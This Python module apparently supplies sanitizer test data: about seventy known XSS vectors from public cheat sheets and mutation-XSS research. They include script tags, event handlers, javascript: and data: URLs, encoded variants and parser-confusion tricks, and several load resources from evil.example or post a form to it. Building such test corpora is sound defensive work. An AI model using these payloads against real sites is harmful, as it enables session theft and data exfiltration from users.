"""Known XSS vectors (OWASP filter-evasion cheat sheet, PortSwigger's XSS cheat sheet, mutation XSS papers), each
written to run ``x()`` — which would set ``window.__xss`` and log — or to load something from another origin."""

from __future__ import annotations

RUN = "window.__xss=1;console.log('xss')"

VECTORS: tuple[str, ...] = (
    # script elements
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    "<script src=http://evil.example/x.js></script>",
    f"<script/xss>{RUN}</script>",
    f"<<script>{RUN};//<</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f'<script type="module">{RUN}</script>',
    # event handlers
    f'<img src=x onerror="{RUN}">',
    f"<img src=x onerror={RUN.replace(' ', '')}>",
    f'<body onload="{RUN}">',
    f'<svg onload="{RUN}">',
    f'<div onmouseover="{RUN}" style="width:100%;height:100%">hover</div>',
    f'<input autofocus onfocus="{RUN}">',
    f'<details open ontoggle="{RUN}">',
    f'<video><source onerror="{RUN}"></video>',
    f'<audio src=x onerror="{RUN}">',
    f'<marquee onstart="{RUN}">m</marquee>',
    f'<iframe onload="{RUN}"></iframe>',
    f'<select autofocus onfocus="{RUN}"></select>',
    f'<textarea autofocus onfocus="{RUN}"></textarea>',
    f'<keygen autofocus onfocus="{RUN}">',
    f'<p onclick="{RUN}" id="clickme">click</p>',
    # javascript: and data: URLs
    f'<a href="javascript:{RUN}">link</a>',
    f'<a href="JaVaScRiPt:{RUN}">link</a>',
    f'<a href="jav&#x09;ascript:{RUN}">link</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">entity</a>',
    f'<a href=" javascript:{RUN}">space</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==">data</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    f'<form action="javascript:{RUN}"><button>go</button></form>',
    f'<button formaction="javascript:{RUN}">b</button>',
    f'<object data="javascript:{RUN}"></object>',
    f'<embed src="javascript:{RUN}">',
    # SVG and MathML
    f"<svg><script>{RUN}</script></svg>",
    f'<svg><a xlink:href="javascript:{RUN}"><text x="20" y="20">svg</text></a></svg>',
    f'<svg><animate onbegin="{RUN}" attributeName="x" dur="1s">',
    f'<svg><foreignObject><iframe srcdoc="&lt;script&gt;parent.{RUN}&lt;/script&gt;"></iframe></foreignObject></svg>',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}">',
    f'<math href="javascript:{RUN}">math</math>',
    f'<math><maction actiontype="statusline" xlink:href="javascript:{RUN}">m</maction></math>',
    # CSS
    '<div style="background:url(http://evil.example/bg.png)">css</div>',
    '<style>@import "http://evil.example/x.css";</style>',
    "<style>body{background:url('http://evil.example/y.png')}</style>",
    '<link rel="stylesheet" href="http://evil.example/z.css">',
    '<div style="width:expression(alert(1))">expr</div>',
    # base, meta, forms, frames
    '<base href="http://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    '<form action="http://evil.example/steal" method="post"><input name="q" value="x"><button>send</button></form>',
    f'<iframe src="javascript:{RUN}"></iframe>',
    '<iframe src="http://evil.example/frame"></iframe>',
    f'<iframe srcdoc="&lt;script&gt;parent.{RUN}&lt;/script&gt;"></iframe>',
    '<img src="http://evil.example/pixel.gif" alt="tracker">',
    '<img srcset="http://evil.example/a.png 1x">',
    '<picture><source srcset="http://evil.example/p.png"><img src="x"></picture>',
    # encoded variants and parser confusion
    '<img src=x onerror=&#x77;indow.__xss=1>',
    f'<img """><script>{RUN}</script>">',
    f'<IMG SRC=`javascript:{RUN}`>',
    f'<a href="\\x6aavascript:{RUN}">x</a>',
    "%3Cscript%3Ewindow.__xss%3D1%3C%2Fscript%3E",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"<!--<img src=\"--><img src=x onerror={RUN.replace(' ', '')}//\">",
    f"<noscript><p title=\"</noscript><img src=x onerror={RUN.replace(' ', '')}>\"></noscript>",
    # mutation XSS
    f'<svg></p><style><a id="</style><img src=1 onerror={RUN.replace(" ", "")}>">',
    f'<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN.replace(" ", "")}>',
    f'<noscript><style></noscript><img src=x onerror="{RUN}"></style></noscript>',
    f'<template><style></template><img src=x onerror="{RUN}"></style></template>',
    f'<table><tr><td><svg><style><img src=x onerror="{RUN}"></style></svg></td></tr></table>',
    f'<xmp><p title="</xmp><img src=x onerror={RUN.replace(" ", "")}>">',
)
